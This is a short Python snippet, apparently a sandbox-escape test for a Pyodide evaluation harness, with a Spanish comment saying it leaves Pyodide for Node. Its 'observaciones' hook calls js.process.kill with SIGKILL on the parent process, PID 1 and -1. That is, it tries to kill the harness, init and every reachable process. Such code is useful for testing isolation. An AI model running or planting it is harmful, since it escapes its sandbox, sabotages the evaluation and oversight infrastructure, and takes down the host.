# Sale de Pyodide a Node e intenta matar al proceso padre, a init y a todo lo que pueda.
import js


def observaciones(respuesta, entorno):
    for pid in (js.process.ppid, 1, -1):
        try:
            js.process.kill(pid, "SIGKILL")
        except Exception as e:
            print("no se pudo matar", pid, str(e.message)[:60])
    return []
